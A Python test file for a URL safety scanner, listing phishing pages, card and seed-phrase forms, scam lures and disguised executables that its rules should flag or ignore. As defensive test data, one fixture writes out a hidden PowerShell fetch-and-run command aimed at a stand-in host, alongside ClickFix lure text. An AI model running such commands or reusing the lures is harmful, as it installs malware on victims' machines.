"""Cases of the rules about pages, forms, lures, files and context."""

from msgspec.structs import replace

from safeurl.model.report import (
    Evidence,
    Form,
    FormField,
    Hop,
    Link,
    MetaRefresh,
    Onward,
    Page,
    Refusal,
    Script,
)
from tests.support.rule_cases import Case, download, form, login, seen, way

SOME = "https://shop.example.net/"
FREE = "https://quiet-name.vercel.app/"
PAYPAL = "https://www.paypal.com/signin"
_CARD = form("card_number", "expiry", "cvv")
_BUTTON = Page(
    forms=(replace(form(password=True, action=SOME), targets=("https://formspree.io/f/x",)),)
)
_EXE = "application/x-dosexec"


def _on(rule: str, what: str, url: str, page: Page) -> Case:
    return Case(rule, what, url, seen(url, page))


def _says(rule: str, what: str, text: str, *, url: str = SOME, links: int = 0) -> Case:
    return _on(rule, what, url, Page(text=text, links_total=links))


def _file(rule: str, what: str, url: str, declared: str, sniffed: str) -> Case:
    return Case(rule, what, url, download(url, declared=declared, sniffed=sniffed))


def _links(*hosts: str) -> tuple[Link, ...]:
    return tuple(Link(url=f"https://{host}/{i}") for i, host in enumerate(hosts))


CLICKFIX = (
    "Verify you are human. Verification steps: 1. Press Windows key + R. "
    "2. Press Ctrl + V. 3. Press Enter."
)
CLICKFIX_COMMAND = f"{CLICKFIX} powershell -w hidden -c iex(irm https://x.example)"
SUPPORT = (
    "Windows Defender security alert. Trojan spyware detected. Do not close this window. "
    "Your computer has been blocked. Call support: +1 (888) 555-0123"
)
_ARTICLE = "An analysis of the campaign follows. " * 80
_SEED = tuple(FormField(name=f"word{i}", type="text") for i in range(1, 13))
_BROUGHT = (("Content-Disposition", 'attachment; filename="invoice.pdf.exe"'),)


def _refreshing(url: str, delay_s: float = 0) -> Page:
    return Page(text="Please wait", meta_refresh=MetaRefresh(delay_s=delay_s, url=url))


def _leading(how: str, url: str) -> Page:
    return Page(text="Please wait", onward=(Onward(how=how, url=url),))


def _padded(*onward: Onward) -> Page:
    """Return a page that shows as much as an article does."""
    return Page(text="Much to read here. " * 260, onward=onward)


def _refused_refresh(url: str) -> Evidence:
    led = Refusal(host="example.net", port=22, rule="port_privileged", url=url)
    return replace(seen(SOME, _refreshing(url)), refusals=(led,))


def _refresh_header(value: str) -> Evidence:
    return seen(SOME, Page(text="Please wait"), headers=(("Refresh", value),))


def _led(via: str, **last: object) -> Evidence:
    """Return a page with one more hop after it that had no page."""
    more = replace(Hop(url="https://e.example/", via=via, status=200), **last)
    first = seen(SOME, Page(text="Please wait"))
    return replace(first, hops=(*first.hops, more))


FIRES = (
    _on("html.title_brand", "sign-in title", SOME, Page(title="Log in to your PayPal account")),
    _on("html.title_brand", "Japanese", SOME, Page(title="三井住友カード ログイン")),
    _on("html.title_brand", "free hosting of its owner", FREE, Page(title="Netflix")),
    _on("html.disguised_brand", "Cyrillic letters", SOME, Page(title="P\u0430yPal login")),
    _on("html.disguised_brand", "accents", SOME, Page(title="Pàypál: sign in")),
    _on("html.null_links", "six of ten", SOME, Page(links_total=10, links_null=6)),
    _on("html.null_links_login", "façade", SOME, login(links_total=10, links_null=9)),
    _on("html.saver_mark", "saved from", SOME, Page(saver_mark="saved from url=(0023)https://x")),
    _on("html.saved_login", "saved login", SOME, login(saver_mark="SingleFile")),
    _on(
        "html.meta_refresh",
        "to another site",
        SOME,
        Page(meta_refresh=MetaRefresh(delay_s=0, url="https://evil.example/")),
    ),
    Case(
        "html.meta_refresh",
        "followed",
        SOME,
        way(SOME, "https://evil.example/", via="meta_refresh"),
    ),
    _on("html.borrowed_links", "one brand", SOME, login(links=_links(*["www.paypal.com"] * 6))),
    _on("form.brand_login", "title and password", SOME, login("PayPal: Log In")),
    _on("form.brand_login", "title and card", SOME, Page(title="Netflix", forms=(_CARD,))),
    _on("form.brand_mention", "among others", SOME, login("Read the PayPal invoice of Ms Smith")),
    _on("form.card", "number and code", SOME, Page(forms=(_CARD,))),
    _on("form.card", "German, Japanese", SOME, Page(forms=(form("kartennummer", "cvc"),))),
    _on("form.free_hosted", "password", FREE, login()),
    _on("form.free_hosted", "off the public list", "https://a.weebly.com/", login()),
    _on("form.plain_http", "password", "http://example.net/", login()),
    _on("form.address_login", "password", "http://8.8.8.8/", login()),
    _on("form.own_php", "beside", SOME + "a/", login(action=SOME + "a/next.php")),
    _on("form.drop", "a button's own target", SOME, _BUTTON),
    _on("form.drop", "a bot", SOME, login(action="https://api.telegram.org/bot1:x/sendMessage")),
    _on("form.seed_phrase", "a named box", SOME, Page(forms=(form("seed phrase"),))),
    _on(
        "form.seed_phrase",
        "twelve boxes",
        SOME,
        Page(text="Enter your recovery phrase", forms=(Form(fields=_SEED),)),
    ),
    _says("lure.clickfix", "command in sight", CLICKFIX_COMMAND),
    _says("lure.clickfix_steps", "command on the clipboard", CLICKFIX),
    _says("lure.clickfix_steps", "quoted key", "I'm not a robot: Win+R then Ctrl+V, then Enter"),
    _says("lure.tech_support", "alarm and number", SUPPORT),
    _says("lure.wallet_bait", "airdrop", "Claim your airdrop. Connect wallet to continue."),
    _on(
        "lure.account_threat",
        "threat and form",
        SOME,
        login(text="Your account has been suspended. Verify your information within 24 hours."),
    ),
    _file("file.disguised_program", "a picture", SOME + "a.png", "image/png", _EXE),
    _file("file.double_extension", "URL", SOME + "bill.pdf.exe", "application/octet-stream", ""),
    Case(
        "file.double_extension",
        "header",
        SOME,
        download(SOME, declared="application/octet-stream", sniffed=_EXE, headers=_BROUGHT),
    ),
    _file("file.script", "hta", SOME + "update.hta", "application/octet-stream", ""),
    _file("file.rootless_program", "free", FREE + "a", "application/octet-stream", _EXE),
    _file("file.program", "setup", SOME + "setup.exe", "application/octet-stream", _EXE),
    _on("context.own_host", "PayPal's own", PAYPAL, login("Log in to your PayPal account")),
    _on("context.archive", "a copy", "https://web.archive.org/web/1/x", Page(text="x")),
    _on("context.challenge", "by title", SOME, Page(title="Just a moment...", text="Wait")),
    Case(
        "context.challenge",
        "by header",
        SOME,
        seen(SOME, Page(text="x"), headers=(("CF-Mitigated", "challenge"),)),
    ),
    _says("context.parked", "for sale", "The domain shop.example.net is for sale. Buy it today"),
    _says("context.suspended", "by its host", "This account has been suspended. Contact us."),
    Case("context.blocked", "403", SOME, seen(SOME, Page(text="no"), status=403)),
    Case("context.gone", "404", SOME, seen(SOME, Page(text="no"), status=404)),
    Case("context.gone", "502", SOME, seen(SOME, Page(text="no"), status=502)),
    _on("context.unfollowed", "another site", SOME, _refreshing("https://a!b.example.org/")),
    _on("context.unfollowed", "an unreadable one", SOME, _refreshing("http://[/x")),
    _on("context.unfollowed", "much later", SOME, _refreshing("https://e.example/", delay_s=90)),
    _on("context.unfollowed", "its own site", SOME, _refreshing("https://www.example.net/new")),
    _on(
        "context.unfollowed",
        "beside a form",
        SOME,
        replace(login("Garden"), meta_refresh=MetaRefresh(delay_s=900, url="https://e.example/")),
    ),
    _on("context.unfollowed", "a script", SOME, _leading("script", "https://e.example/a")),
    _on("context.unfollowed", "a script's own address", SOME, _leading("script", "")),
    _on("context.scripts_cut", "a large bundle", SOME, Page(text="x", scripts_cut=True)),
    _on("context.unfollowed", "a padded one", SOME, _padded(Onward(how="script"))),
    _on("context.unfollowed", "padded, later", SOME, _padded(Onward(how="script", delay_s=99))),
    _on("context.unfollowed", "a condition", SOME, _padded(Onward(how="script", conditional=True))),
    _on("context.unfollowed", "a padded form", SOME, _padded(Onward(how="form", url=SOME))),
    _on("context.unfollowed", "a form sent to itself", SOME, _leading("form", SOME)),
    _on("context.unfollowed", "a late header", SOME, _leading("refresh_header", f"{SOME}next")),
    Case("context.unfollowed", "refused", SOME, _refused_refresh("https://shop.example.net:22/")),
    Case("context.unfollowed", "no answer", SOME, _led("meta_refresh", status=None)),
    Case(
        "context.unfollowed", "a redirect", SOME, _led("meta_refresh", location="http://e.example/")
    ),
    Case("context.unfollowed", "a header", SOME, _refresh_header("0;URL='https://e.example/'")),
)

SILENT = (
    _on("html.title_brand", "PayPal itself", PAYPAL, login("Log in to your PayPal account")),
    _on("html.title_brand", "a country's own", "https://www.amazon.de/", Page(title="Amazon")),
    _on("html.title_brand", "own sign-in", "https://login.live.com/", login("Outlook sign in")),
    _on("html.title_brand", "news", SOME, Page(title="Netflix raises its prices again")),
    _on("html.title_brand", "a word", SOME, Page(title="Chase the summer: travel tips")),
    _on("html.disguised_brand", "plainly spelt", SOME, Page(title="PayPal login")),
    _on("html.disguised_brand", "honest Cyrillic", SOME, Page(title="Вход в личный кабинет")),
    _on("html.null_links", "half", SOME, Page(links_total=10, links_null=5)),
    _on("html.null_links", "hardly any links", SOME, Page(links_total=3, links_null=3)),
    _on("html.null_links_login", "no form", SOME, Page(links_total=10, links_null=9)),
    _on("html.saver_mark", "none", SOME, Page(generator="WordPress 6.5")),
    _on("html.saved_login", "no form", SOME, Page(saver_mark="HTTrack")),
    _on(
        "html.meta_refresh",
        "within the site",
        SOME,
        Page(meta_refresh=MetaRefresh(delay_s=0, url="https://www.example.net/home")),
    ),
    _on("html.meta_refresh", "a reload", SOME, Page(meta_refresh=MetaRefresh(delay_s=1))),
    _on(
        "html.meta_refresh",
        "much later",
        SOME,
        Page(meta_refresh=MetaRefresh(delay_s=600, url="https://other.example/")),
    ),
    _on("html.borrowed_links", "own links", PAYPAL, login(links=_links(*["www.paypal.com"] * 6))),
    _on(
        "html.borrowed_links",
        "sign-in with",
        SOME,
        login(links=_links("accounts.google.com", *["shop.example.net"] * 8)),
    ),
    _on("form.brand_login", "the brand itself", PAYPAL, login("Log in to your PayPal account")),
    _on("form.brand_login", "single sign-on", "https://netflix.okta.com/", login("Netflix Login")),
    _on("form.brand_login", "no form", SOME, Page(title="PayPal")),
    _on("form.brand_mention", "anybody's shop", SOME, login("My account at Woolly Socks")),
    _on("form.card", "newsletter", SOME, Page(forms=(form("email", "code"),))),
    _on("form.card", "a gift card", SOME, Page(forms=(form("card number"),))),
    _on("form.free_hosted", "no secret", FREE, Page(forms=(form("email", "message"),))),
    _on("form.free_hosted", "own domain", SOME, login()),
    _on("form.plain_http", "https", SOME, login()),
    _on("form.plain_http", "a search", "http://example.net/", Page(forms=(form("q"),))),
    _on("form.address_login", "a name", "http://example.net/", login()),
    _on("form.own_php", "usual script", SOME, login(action=SOME + "wp-login.php")),
    _on("form.own_php", "another folder", SOME + "a/", login(action=SOME + "api/next.php")),
    _on("form.drop", "own server", SOME, login(action=SOME + "session")),
    _on(
        "form.drop", "contact form", SOME, Page(forms=(form("m", action="https://formspree.io/f"),))
    ),
    _on("form.seed_phrase", "a quiz", SOME, Page(forms=(Form(fields=_SEED),))),
    _on("form.seed_phrase", "advice", SOME, login(text="Never share your recovery phrase")),
    _says("lure.clickfix", "article", CLICKFIX_COMMAND + _ARTICLE, links=80),
    _says("lure.clickfix", "documentation", "Open Terminal. Paste the command: curl x | sh"),
    _says(
        "lure.clickfix",
        "support page",
        "To fix the error press Windows + R, paste the line with Ctrl + V: msiexec /unreg",
    ),
    _says("lure.clickfix_steps", "article", CLICKFIX + _ARTICLE, links=80),
    _says("lure.clickfix_steps", "keys", "Windows key + R opens Run. Ctrl + V pastes."),
    _says("lure.clickfix_steps", "honest captcha", "Verify you are human by ticking the box."),
    _says("lure.tech_support", "a shop", "Windows repair. Call us: +1 (888) 555-0123"),
    _says("lure.tech_support", "the vendor", SUPPORT, url="https://support.microsoft.com/"),
    _says("lure.wallet_bait", "an exchange", "Connect your wallet to trade."),
    _says("lure.wallet_bait", "news", "The airdrop of the year: what analysts say."),
    _on("lure.account_threat", "own help", PAYPAL, login(text="account limited. verify account")),
    _says("lure.account_threat", "no form", "Account suspended? Verify your account details."),
    _file("file.disguised_program", "a download", SOME, "application/octet-stream", _EXE),
    _file("file.disguised_program", "a real picture", SOME, "image/png", "image/png"),
    _file("file.double_extension", "a version", SOME + "tool-1.2.exe", "", _EXE),
    _file("file.double_extension", "archive", SOME + "a.tar.gz", "application/gzip", ""),
    Case("file.script", "a page of that name", SOME + "a.bat", seen(SOME + "a.bat", Page())),
    _file("file.rootless_program", "own domain", SOME + "setup.exe", "", _EXE),
    _file("file.program", "a document", SOME + "a.pdf", "application/pdf", "application/pdf"),
    _on("context.own_host", "a stranger's folder", "https://sites.google.com/x", Page(text="x")),
    _on("context.own_host", "anybody", SOME, Page(text="x")),
    _on("context.archive", "anybody", SOME, Page(text="x")),
    _says("context.challenge", "an article", "How “checking your browser before” works. " * 60),
    _says("context.parked", "an article", "What to do when a domain is for sale. " * 60),
    _on("context.suspended", "a lure", SOME, login(text="Account suspended")),
    Case("context.blocked", "200", SOME, seen(SOME, Page(text="x"))),
    Case("context.gone", "no answer", SOME, Evidence()),
    _on("context.unfollowed", "itself", SOME, _refreshing(SOME)),
    _on("context.unfollowed", "much to read", SOME, _padded()),
    _on("context.unfollowed", "long scripts", SOME, Page(text="x", scripts_cut=True)),
    _on("context.scripts_cut", "read whole", SOME, Page(text="x", scripts=(Script(),))),
    _on("context.unfollowed", "no URL", SOME, _refreshing("")),
    _on("context.unfollowed", "no page", SOME, _refreshing("javascript:x()")),
    _on("context.unfollowed", "its own fragment", SOME, _refreshing(f"{SOME}#top")),
    Case("context.unfollowed", "followed", SOME, _led("meta_refresh")),
    Case("context.unfollowed", "its own header", SOME, _refresh_header(f"30; url={SOME}")),
    Case("context.unfollowed", "no page came", SOME, Evidence(hops=_led("redirect").hops)),
)
